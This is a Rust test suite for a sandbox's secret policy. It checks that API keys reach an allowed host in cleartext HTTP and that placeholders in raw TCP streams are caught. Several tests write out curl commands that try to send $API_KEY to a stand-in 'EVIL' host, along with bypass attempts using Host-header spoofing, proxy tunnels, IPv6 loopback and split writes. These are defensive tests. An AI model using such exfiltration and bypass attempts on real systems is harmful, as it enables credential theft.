//! Secrets in the clear: values of those only that say so, and no placeholder to anybody else, in
//! plain HTTP and in what is none.

use std::io::{Read, Write};
use std::net::Shutdown;
use std::process::Stdio;
use std::time::Duration;

use serde_json::{Value, json};
use socket2::SockRef;

use super::{EVIL, GOOD, Site, VALUE, command, config, events, has, run};
use crate::guest::ConfigFile;
use crate::needs;
use crate::process::Process;

/// What must never leave in the clear.
const PROVEN: &str = "of-a-server-that-has-proven-its-name";

/// A configuration in which `API_KEY` may go to [`GOOD`] in the clear, and `PROVEN` may not.
fn open(site: &Site) -> Value {
    let all = json!({"headers": true, "query": true, "body": true});
    let secrets = json!([
        {"env_var": "API_KEY", "value": VALUE, "allowed_hosts": [GOOD], "substitution": all,
            "require_tls_identity": false},
        {"env_var": "PROVEN", "value": PROVEN, "allowed_hosts": [GOOD], "substitution": all},
    ]);
    config(site, json!({"secrets": {"secrets": secrets}}))
}

/// The same, with TLS intercepted elsewhere: the site's port is any other.
fn elsewhere(site: &Site) -> Value {
    let mut config = open(site);
    config["tls"]["intercepted_ports"] = json!([443]);
    config
}

/// `curl` of a path under `name`, in the clear.
fn curl(site: &Site, name: &str, words: &str) -> String {
    format!("curl -sS -m 20 {words} -w '\\n%{{http_code}}' http://{name}:{}/p", site.port)
}

#[test]
fn a_secret_that_says_so_goes_to_its_server_in_the_clear() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    for (what, words, sent) in [
        ("a field", r#"-H "Authorization: Bearer $API_KEY""#, "Bearer VALUE"),
        ("Basic", r#"-u "me:$API_KEY""#, "Basic bWU6c2stbGl2ZS0wMTIzNDU2Nzg5YWJjZGVm"),
        ("the query", r#"-G --data-urlencode "k=$API_KEY""#, "k=VALUE"),
        ("a form", r#"--data-urlencode "k=$API_KEY""#, "k=VALUE"),
        ("chunks", r#"-H 'Transfer-Encoding: chunked' -d "a $API_KEY b""#, "a VALUE b"),
    ] {
        for config in [open, elsewhere] {
            let site = Site::in_the_clear();
            let finished = run(&config(&site), &curl(&site, GOOD, words));
            assert!(finished.output.ends_with("\n200"), "{what}: {finished:?}");
            assert!(!finished.output.contains(VALUE), "{what}: it comes back as a placeholder");
            assert!(events(&finished).is_empty(), "{what}: {finished:?}");
            let heard = site.heard();
            assert!(has(&heard, sent.replace("VALUE", VALUE).as_bytes()), "{what}: {finished:?}");
            assert!(!has(&heard, b"MSB_API_KEY"), "{what}: no placeholder");
        }
    }
}

#[test]
fn one_that_wants_a_proof_and_one_for_somebody_else_never_leave() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    for (secret, name, place, words) in [
        ("PROVEN", GOOD, "header", r#"-H "X: $PROVEN""#),
        ("PROVEN", GOOD, "body", r#"-d "$PROVEN""#),
        ("API_KEY", EVIL, "header", r#"-H "X: $API_KEY""#),
        ("API_KEY", EVIL, "query", r#"-G --data-urlencode "k=$API_KEY""#),
        ("API_KEY", EVIL, "body", r#"-d "$API_KEY""#),
        ("API_KEY", EVIL, "basic credentials", r#"-u "me:$API_KEY""#),
    ] {
        for config in [open, elsewhere] {
            let site = Site::in_the_clear();
            let finished = run(&config(&site), &curl(&site, name, words));
            assert!(finished.output.ends_with("\n403"), "{secret} {place}: {finished:?}");
            assert!(finished.output.contains("secret_policy_denied"), "{finished:?}");
            assert!(finished.output.contains(name), "whom it was for is told: {finished:?}");
            let events = events(&finished);
            assert_eq!((events.len(), &events[0]["secret"]), (1, &json!(secret)), "{finished:?}");
            assert_eq!((&events[0]["place"], &events[0]["name"]), (&json!(place), &json!(name)));
            assert!(!has(&site.heard(), b"/p"), "nothing of it has left");
        }
    }
}

#[test]
fn a_server_at_the_other_loopback_is_no_way_past() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    let site = Site::in_the_clear_over_ipv4();
    let finished = run(&elsewhere(&site), &curl(&site, GOOD, r#"-6 -H "X: $PROVEN""#));
    assert!(finished.output.ends_with("\n403"), "{finished:?}");
    assert!(!has(&site.heard(), b"/p"), "nothing of it has left");
    let finished = run(&elsewhere(&site), &curl(&site, GOOD, "-6"));
    assert!(finished.output.ends_with("\n200"), "it is reached: {finished:?}");
}

#[test]
fn whom_a_request_is_for_must_be_clear_and_where_it_was_led() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    // The name of the host, at an address to which nobody said that it leads.
    let site = Site::in_the_clear();
    let elsewhere = curl(&site, "$MSB_GATEWAY", r#"-H "X: $API_KEY" -H "Host: good.test:PORT""#);
    let elsewhere = elsewhere.replace("PORT", &site.port.to_string());
    let script =
        format!("MSB_GATEWAY=$(getent ahostsv4 {GOOD} | awk 'NR == 1 {{print $1}}'); {elsewhere}");
    let mut config = open(&site);
    config["secrets"]["secrets"][0]["allowed_hosts"] = json!(["good.test"]);
    let finished = run(&config, &script);
    assert!(finished.output.ends_with("\n403"), "{finished:?}");
    assert!(!has(&site.heard(), b"/p") && !has(&site.heard(), VALUE.as_bytes()));
    // A second request on the connection is for the first one's host, or for nobody.
    let site = Site::in_the_clear();
    let words = |name| format!("-H \"X: $API_KEY\" -H 'Host: {name}:{}'", site.port);
    let both = format!(
        "{} --next {}",
        curl(&site, GOOD, &words(GOOD)),
        curl(&site, GOOD, &words(EVIL)).trim_start_matches("curl ")
    );
    let finished = run(&open(&site), &both);
    assert!(finished.output.ends_with("\n421"), "{finished:?}");
    assert_eq!(site.handshakes(), 1, "it is one connection");
    assert_eq!(events(&finished)[0]["reason"], "authority", "{finished:?}");
    let asked = memchr::memmem::find_iter(&site.heard(), VALUE).count();
    assert_eq!(asked, 2, "the first, as it was said and as it was meant");
}

#[test]
fn where_no_secret_goes_in_the_clear_a_placeholder_goes_nowhere_and_all_else_as_it_was() {
    if !needs::are_met(&["curl"]) {
        return;
    }
    for intercepted in [true, false] {
        let site = Site::in_the_clear();
        let mut config = if intercepted { open(&site) } else { elsewhere(&site) };
        config["secrets"]["secrets"][0]["require_tls_identity"] = json!(true);
        // The first on a connection passes, the second does not, and is the last.
        let clean = curl(&site, GOOD, "-H 'X-Case: as it is' -H 'Host: any.test, some'");
        let leaks = curl(&site, GOOD, r#"-d "$API_KEY""#);
        let both = format!("{clean} --next {}", leaks.trim_start_matches("curl "));
        let finished = run(&config, &both);
        let (first, second) = finished.output.split_once("\n200").unwrap();
        assert!(first.contains("as it is") && second.ends_with("\n403"), "{finished:?}");
        assert_eq!(events(&finished)[0]["secret"], "API_KEY", "{finished:?}");
        let heard = site.heard();
        assert!(has(&heard, b"X-Case: as it is\r\n") && has(&heard, b"Host: any.test, some"));
        assert!(!has(&heard, b"POST") && !has(&heard, b"MSB_API_KEY"), "of the second nothing");
        assert_eq!(site.handshakes(), 1, "it is one connection");
    }
}

/// A proxy of HTTP on this host that answers for everybody, and relays what it is asked to; it
/// keeps what was said to it, and serves so many connections.
fn proxy(connections: usize) -> (u16, std::thread::JoinHandle<Vec<u8>>) {
    let listener = std::net::TcpListener::bind("[::]:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let serve = move || {
        let mut heard = Vec::new();
        for _ in 0..connections {
            let (mut stream, _) = listener.accept().unwrap();
            let (mut head, mut byte) = (Vec::new(), [0]);
            while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).unwrap_or(0) == 1 {
                head.push(byte[0]);
            }
            heard.extend_from_slice(&head);
            if !head.starts_with(b"CONNECT ") {
                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nfar\n");
                continue;
            }
            stream.write_all(b"HTTP/1.1 200 OK\r\n\r\n").unwrap();
            let mut bytes = [0; 1000];
            while let Ok(len @ 1..) = stream.read(&mut bytes) {
                heard.extend_from_slice(&bytes[..len]);
                let _ = stream.write_all(&bytes[..len]);
            }
        }
        heard
    };
    (port, std::thread::spawn(serve))
}

#[test]
fn through_a_proxy_of_the_guests_requests_pass_as_they_are_and_no_placeholder_does() {
    if !needs::are_met(&["curl", "python3"]) {
        return;
    }
    let site = Site::in_the_clear();
    let file = ConfigFile::new(&elsewhere(&site));
    let (port, served) = proxy(5);
    let script = r#"
proxy="http://$0:$1"
curl -sS -m 20 -x $proxy http://far.test/page
curl -sS -m 20 -x $proxy http://far.test/?k=$API_KEY
curl -sS -m 20 -x $proxy http://host.sluicegate.internal:81/?k=$API_KEY
exec python3 - $0 $1 <<'END'
import socket, sys
for said in [b"\x16\x03\x01 hello", b"$MSB_API_KEY"]:
    stream = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=20)
    stream.sendall(b"CONNECT far.test:443 HTTP/1.1\r\nHost: far.test:443\r\n\r\n")
    head = b""
    while not head.endswith(b"\r\n\r\n"): head += stream.recv(1)
    print(head.split()[1])
    stream.sendall(said)
    try:
        print(stream.recv(len(said), socket.MSG_WAITALL))
    except ConnectionError:
        print("reset")
    stream.close()
END
"#;
    let mut command = command(&file, script);
    let finished = crate::process::run(command.args([GOOD, &port.to_string()]));
    let refused = |name: &str| {
        format!(
            "{{\"code\":\"secret_policy_denied\",\"domain\":{name},\"message\":\"Request \
            blocked by secret policy.\"}}\n"
        )
    };
    // It is at the address of one that may have the value, and another port.
    let [far, own] = ["\"far.test\"", "null"].map(refused);
    let tunnels = "b'200'\nb'\\x16\\x03\\x01 hello'\nb'200'\nreset\n";
    assert_eq!(finished.output, format!("far\n{far}{own}{tunnels}"), "{finished:?}");
    assert_eq!(events(&finished).len(), 3, "{finished:?}");
    let heard = served.join().unwrap();
    assert!(has(&heard, b"GET http://far.test/page HTTP/1.1\r\n"));
    assert!(has(&heard, b"CONNECT far.test:443 HTTP/1.1\r\n"));
    assert!(!has(&heard, b"MSB_API_KEY") && !has(&heard, VALUE.as_bytes()));
}

/// Who speaks on a connection that is not HTTP, line by line: the server `says` first, or nothing;
/// then the guest says each of `script`, and waits for what it said to come back. Returns what the
/// server has heard.
fn converse(says: &'static [u8], lines: &[&str]) -> (Vec<u8>, crate::process::Finished) {
    let listener = std::net::TcpListener::bind("[::]:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        stream.write_all(says).unwrap();
        let (mut heard, mut bytes) = (Vec::new(), [0; 1000]);
        while let Ok(len @ 1..) = stream.read(&mut bytes) {
            heard.extend_from_slice(&bytes[..len]);
            let _ = stream.write_all(&bytes[..len]);
        }
        heard
    });
    let site = Site::in_the_clear();
    let file = ConfigFile::new(&elsewhere(&site));
    let script = r#"
import socket, sys
stream = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=20)
first = int(sys.argv[3])
if first: print(stream.recv(first, socket.MSG_WAITALL).decode().strip())
for line in sys.argv[4:]:
    said = line.encode().decode("unicode_escape").encode("latin-1")
    stream.sendall(said)
    try:
        print(stream.recv(len(said), socket.MSG_WAITALL).decode("latin-1").strip())
    except ConnectionError as error:
        print("reset")
"#;
    let mut command = command(&file, "exec python3 -c \"$0\" \"$@\"");
    command.args([script, GOOD, &port.to_string(), &says.len().to_string()]).args(lines);
    let finished = crate::process::run(&mut command);
    (server.join().unwrap(), finished)
}

#[test]
fn a_stream_at_any_port_passes_as_it_comes_up_to_a_placeholder() {
    if !needs::are_met(&["python3"]) {
        return;
    }
    for (says, lines, output) in [
        // A server that speaks first, and one that does not; neither waits for the other.
        (
            &b"220 hello\r\n"[..],
            &["EHLO me\r\n", "a $MSB_API", "_KEY"][..],
            "220 hello\nEHLO me\na $MSB_API\nreset\n",
        ),
        (b"", &["NICK me\r\n", "$MSB_API_KEY"], "NICK me\nreset\n"),
        (
            b"",
            &["\\x00\\x01 binary", "b%24MSB_API_KEY is not it", "$MSB_API_KEY"],
            "\0\u{1} binary\nb%24MSB_API_KEY is not it\nreset\n",
        ),
        // What might have become a line of HTTP, and does not go on.
        (b"", &["GE", "T lost", "$MSB_API_KEY"], "GE\nT lost\nreset\n"),
        // The first bytes of a handshake of TLS: what follows is nobody's.
        (b"", &["\\x16\\x03\\x01 $MSB_API_KEY"], "\u{16}\u{3}\u{1} $MSB_API_KEY\n"),
    ] {
        let (heard, finished) = converse(says, lines);
        assert_eq!(finished.output, output, "{finished:?}");
        let events = events(&finished);
        if output.ends_with("reset\n") {
            assert_eq!((events.len(), &events[0]["place"]), (1, &json!("stream")), "{finished:?}");
            assert!(!has(&heard, b"$MSB_API_KEY"), "{lines:?}");
        } else {
            assert!(events.is_empty(), "{finished:?}");
        }
    }
}

#[test]
fn what_is_no_http_passes_and_a_placeholder_in_it_does_not() {
    if !needs::are_met(&["python3"]) {
        return;
    }
    let listener = std::net::TcpListener::bind("[::]:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let mut heard = Vec::new();
        let mut bytes = [0; 1000];
        while let Ok(len @ 1..) = stream.read(&mut bytes) {
            heard.extend_from_slice(&bytes[..len]);
            let _ = stream.write_all(&bytes[..len]);
        }
        heard
    });
    let mut site = Site::in_the_clear();
    site.port = port;
    let file = ConfigFile::new(&open(&site));
    let mut command = command(&file, "exec python3 - $0 $1");
    let mut process = Process::start(command.args([GOOD, &port.to_string()]).stdin(Stdio::piped()));
    let script = r#"
import socket, sys
stream = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=20)
stream.sendall(b"\x01\x02 word")
print(stream.recv(100))
stream.sendall(b"a $MSB_API")
print(stream.recv(100))
stream.sendall(b"_KEY")
try:
    print(stream.recv(100))
except ConnectionError as error:
    print("reset")
"#;
    process.take_input().write_all(script.as_bytes()).unwrap();
    let finished = process.finish();
    let expected = "b'\\x01\\x02 word'\nb'a $MSB_API'\nreset\n";
    assert_eq!(finished.output, expected, "{finished:?}");
    assert_eq!(server.join().unwrap(), b"\x01\x02 worda $MSB_API");
    assert_eq!(events(&finished)[0]["place"], "stream", "{finished:?}");
}

#[test]
fn a_server_that_has_finished_hears_on_and_its_reset_is_the_guests() {
    if !needs::are_met(&["python3"]) {
        return;
    }
    let listener = std::net::TcpListener::bind("[::]:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        stream.write_all(b"bye").unwrap();
        stream.shutdown(Shutdown::Write).unwrap();
        let mut heard = [0; 6];
        stream.read_exact(&mut heard).unwrap();
        SockRef::from(&stream).set_linger(Some(Duration::ZERO)).unwrap();
        heard
    });
    let mut site = Site::in_the_clear();
    site.port = port;
    let file = ConfigFile::new(&open(&site));
    let script = r#"
import select, socket, sys
stream = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=20)
stream.sendall(b"\x01\x02")
print(stream.recv(100), stream.recv(100))
stream.sendall(b"more")
print("said", flush=True)
sys.stdin.readline()
stream.sendall(b"and more")
errors = select.poll()
errors.register(stream, 0)
print(len(errors.poll(15000)))
"#;
    let mut command = command(&file, "exec python3 -c \"$2\" $0 $1");
    command.args([GOOD, &port.to_string(), script]).stdin(Stdio::piped());
    let mut process = Process::start(&mut command);
    process.wait_for("said\n");
    assert_eq!(&server.join().unwrap(), b"\x01\x02more", "all that was said behind its end");
    process.take_input().write_all(b"\n").unwrap();
    let finished = process.finish();
    assert_eq!(finished.output, "b'bye' b''\nsaid\n1\n", "{finished:?}");
}
